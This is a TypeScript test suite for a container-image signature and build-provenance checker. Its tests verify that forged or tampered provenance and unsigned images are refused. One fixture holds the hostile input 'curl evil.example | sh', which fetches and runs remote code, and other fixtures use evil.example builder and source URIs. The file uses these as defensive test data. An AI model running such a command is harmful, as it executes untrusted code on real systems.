import assert from "node:assert/strict";
import { test } from "node:test";
import type { Json } from "@countersign/proof/jcs";
import { readProvenance, readStatement } from "@countersign/proof/statement";
import fc from "fast-check";
import { TEST_EPOCH } from "../../audit/test-databases.ts";
import { Fault } from "../../lib/index.ts";
import { type Counted, countedNow, type ImageStatement } from "./image-statement.ts";
import { configurationDigest, judgeConfiguration } from "./judge-configuration.ts";
import { type ImageDemand, judgeImage } from "./judge-image.ts";
import { type ArtifactReason, reasonOf } from "./refused.ts";
import { artifactRequirement, type ImageRequirement, type ProvenanceRequirement } from "./requirement.ts";
import type { Signer, SignerPurpose } from "./signer.ts";
import {
  ANOTHER,
  BUILDER,
  COMMIT,
  IMAGE,
  keyTrust,
  newKey,
  provenanceOf,
  SOURCE,
  signerWith,
} from "./test-signatures.ts";

const trust = keyTrust(newKey());
const release = signerWith("release", trust, ["image"]);
const builder = signerWith("builder", trust, ["provenance"]);

const statementBy = (signer: Signer, more: Partial<ImageStatement> = {}): ImageStatement => ({
  id: "statement_1",
  image: IMAGE,
  kind: "signature",
  signer: signer.id,
  fingerprint: signer.fingerprint,
  signed: "e".repeat(64),
  brought: TEST_EPOCH,
  ...more,
});

const signed: Counted = { statement: statementBy(release), signer: release };
const built = (lies: Record<string, Json> = {}, signer = builder): Counted => {
  const provenance = readProvenance(readStatement(Buffer.from(JSON.stringify(provenanceOf(IMAGE, lies)))));
  return { statement: statementBy(signer, { kind: "provenance", provenance }), signer };
};

const PROVENANCE: ProvenanceRequirement = {
  builder: BUILDER,
  source: SOURCE,
  parameters: { workflow: { ref: "refs/heads/main", path: ".github/workflows/build.yml" } },
  free_parameters: [],
  signed_by: ["builder"],
};
const declare = (images: Partial<ImageRequirement>): ImageRequirement => ({ allow: [], ...images });

const refuses = (
  demand: ImageDemand,
  image: string | undefined,
  counted: readonly Counted[],
  reason: ArtifactReason,
) =>
  assert.throws(
    () => judgeImage(demand, image, counted),
    (error) => error instanceof Fault && error.code === "forbidden" && reasonOf(error) === reason,
    reason,
  );

test("an image that nobody demands is noted; one that is demanded and was not measured is refused", () => {
  assert.deepEqual(judgeImage("nothing", undefined, []), []);
  assert.deepEqual(judgeImage("nothing", IMAGE, []), [
    { what: "image-noted", subject: IMAGE, result: "passed" },
  ]);
  refuses("signed", undefined, [signed], "image-required");
  refuses(declare({ allow: [IMAGE] }), undefined, [], "image-required");
});

test("an allowed digest is good by itself; any other one must be signed as declared", () => {
  const demand = declare({ allow: [IMAGE], signed_by: ["release"], provenance: PROVENANCE });
  assert.deepEqual(judgeImage(demand, IMAGE, []), [
    { what: "image-allowed", subject: IMAGE, result: "passed" },
  ]);
  refuses(demand, ANOTHER, [], "image-unsigned");
  refuses(declare({ allow: [IMAGE] }), ANOTHER, [signed], "image-not-allowed");
});

test("a signature counts from those who are named, and from anybody of ours where nobody is", () => {
  const [check] = judgeImage(declare({ signed_by: ["release"] }), IMAGE, [signed]);
  assert.deepEqual([check?.what, check?.by], ["image-signature", "release"]);
  assert.equal(judgeImage("signed", IMAGE, [signed]).length, 1);
  refuses(declare({ signed_by: ["others"] }), IMAGE, [signed], "image-unsigned");
  refuses("signed", IMAGE, [built()], "image-unsigned");
});

test("provenance is what is declared: builder, type, source, commit and every parameter", () => {
  const demand = (more: Partial<ProvenanceRequirement> = {}) =>
    declare({ provenance: { ...PROVENANCE, ...more } });
  const [check] = judgeImage(demand({ commit: COMMIT }), IMAGE, [built()]);
  assert.deepEqual([check?.what, check?.by, check?.level], ["image-provenance", "builder", 3]);
  refuses(demand(), IMAGE, [signed], "provenance-missing");
  refuses(demand({ signed_by: ["others"] }), IMAGE, [built()], "provenance-missing");
  refuses(demand({ builder: `${BUILDER}/` }), IMAGE, [built()], "provenance-wrong-builder");
  refuses(demand(), IMAGE, [built({ builder: "https://evil.example/" })], "provenance-wrong-builder");
  refuses(
    demand(),
    IMAGE,
    [built({ buildType: "https://evil.example/type" })],
    "provenance-unknown-build-type",
  );
  refuses(
    demand({ build_type: "https://acme.example/own" }),
    IMAGE,
    [built()],
    "provenance-unknown-build-type",
  );
  refuses(demand({ source: `${SOURCE}-fork` }), IMAGE, [built()], "provenance-wrong-source");
  refuses(demand({ source: SOURCE.slice(0, -1) }), IMAGE, [built()], "provenance-wrong-source");
  refuses(demand({ commit: "2".repeat(40) }), IMAGE, [built()], "provenance-wrong-commit");
  const other = { workflow: { ref: "refs/heads/evil", path: ".github/workflows/build.yml" } };
  refuses(demand(), IMAGE, [built({ externalParameters: other })], "provenance-unexpected-parameter");
  const more = { ...PROVENANCE.parameters, inputs: { script: "curl evil.example | sh" } };
  refuses(demand(), IMAGE, [built({ externalParameters: more })], "provenance-unexpected-parameter");
  refuses(demand(), IMAGE, [built({ externalParameters: {} })], "provenance-unexpected-parameter");
  judgeImage(demand({ free_parameters: ["inputs"] }), IMAGE, [built({ externalParameters: more })]);
});

test("a builder that the signer does not speak for is refused, even where it is the declared one", () => {
  const elsewhere = signerWith(
    "builder",
    trust,
    ["provenance"],
    [{ id: "https://other.example/", level: 3 }],
  );
  refuses(declare({ provenance: PROVENANCE }), IMAGE, [built({}, elsewhere)], "provenance-wrong-builder");
});

test("our repository named beside somebody else's is no provenance of ours", () => {
  const ours = { uri: `${SOURCE}@refs/heads/main`, digest: { gitCommit: COMMIT } };
  const theirs = [
    { uri: "git+https://evil.example/code@refs/heads/main", digest: { gitCommit: "3".repeat(40) } },
    { uri: "https://evil.example/code", digest: { sha1: "3".repeat(40) } },
    { uri: "git+https://evil.example/code" },
    { digest: { gitCommit: "3".repeat(40) } },
  ];
  const demand = declare({ provenance: PROVENANCE });
  for (const other of theirs)
    refuses(demand, IMAGE, [built({ resolvedDependencies: [ours, other] })], "provenance-wrong-source");
  refuses(demand, IMAGE, [built({ resolvedDependencies: [] })], "provenance-wrong-source");
  const packages = { uri: "pkg:npm/zod@4", digest: { sha512: "ab".repeat(32) } };
  judgeImage(demand, IMAGE, [built({ resolvedDependencies: [packages, ours] })]);
});

test("one provenance that is as declared is enough, whatever others say of the same image", () => {
  const wrong = built({ builder: "https://evil.example/" });
  assert.equal(judgeImage(declare({ provenance: PROVENANCE }), IMAGE, [wrong, built()]).length, 1);
});

test("a statement counts while its signer is trusted, by the same key, for that purpose, and in its time", () => {
  const purposes = fc.subarray<SignerPurpose>(["image", "provenance", "model", "bom"]);
  fc.assert(
    fc.property(
      purposes,
      fc.boolean(),
      fc.boolean(),
      fc.option(fc.integer({ min: -5, max: 5 })),
      (...drawn) => {
        const [held, sameKey, known, ends] = drawn;
        const signer = { ...release, purposes: held, fingerprint: sameKey ? release.fingerprint : "other" };
        const statement = statementBy(release, ends === null ? {} : { expires: TEST_EPOCH + ends });
        const counted = countedNow([statement], known ? [signer] : [], TEST_EPOCH);
        const should = known && sameKey && held.includes("image") && (ends === null || ends >= 0);
        assert.equal(counted.length === 1, should);
      },
    ),
  );
});

const file = (path: string, sha256: string) => ({ path, role: "prompt" as const, sha256 });
const PROMPT = file("/srv/agent/prompt.md", "1".repeat(64));

test("a declared file must be there and be as declared; the refusal names the file and nothing in it", () => {
  assert.equal(judgeConfiguration([PROMPT], [PROMPT, file("/srv/more", "2".repeat(64))]).length, 1);
  const swapped = { ...PROMPT, sha256: "2".repeat(64) };
  const reasons = [[], [file("/srv/other", PROMPT.sha256)], [swapped], [PROMPT, swapped]].map((measured) => {
    try {
      judgeConfiguration([PROMPT], measured);
    } catch (error) {
      assert.ok(error instanceof Fault && error.message.includes(PROMPT.path));
      assert.ok(!error.message.includes("1111") && !error.message.includes("2222"));
      return reasonOf(error);
    }
    return "passed";
  });
  assert.deepEqual(reasons, [
    "configuration-missing",
    "configuration-missing",
    "configuration-changed",
    "configuration-changed",
  ]);
});

const files = fc.uniqueArray(
  fc.record({ path: fc.string({ minLength: 1 }), digit: fc.constantFrom("1", "2", "3") }),
  { selector: ({ path }) => path, minLength: 1, maxLength: 6 },
);

test("the configuration's digest is of the set of files: their order is nothing, each byte is everything", () => {
  const measured = (drawn: { path: string; digit: string }[]) =>
    drawn.map(({ path, digit }) => file(path, digit.repeat(64)));
  fc.assert(
    fc.property(files, fc.nat(), (drawn, at) => {
      const digest = configurationDigest(measured(drawn));
      assert.match(digest ?? "", /^sha256:[0-9a-f]{64}$/);
      assert.equal(configurationDigest(measured([...drawn].reverse())), digest);
      const changed = drawn.map((each, i) => (i === at % drawn.length ? { ...each, digit: "4" } : each));
      assert.notEqual(configurationDigest(measured(changed)), digest);
    }),
  );
  assert.equal(configurationDigest([]), undefined);
});

test("a declaration that says nothing of images, names a tag, or a relative path is refused", () => {
  const wrong = [
    { images: {} },
    { images: { allow: ["registry.acme.example/reporter:latest"] } },
    { images: { allow: [IMAGE.toUpperCase()] } },
    { images: { signed_by: [] } },
    { images: { provenance: { builder: BUILDER, signed_by: ["builder"] } } },
    { configuration: [{ path: "prompt.md", role: "prompt", sha256: "1".repeat(64) }] },
    { configuration: [PROMPT, PROMPT] },
    { configuration: [{ ...PROMPT, content: "secret" }] },
    { model: "NOT A NAME" },
    { image: IMAGE },
  ];
  for (const declaration of wrong)
    assert.equal(artifactRequirement.safeParse(declaration).success, false, JSON.stringify(declaration));
});
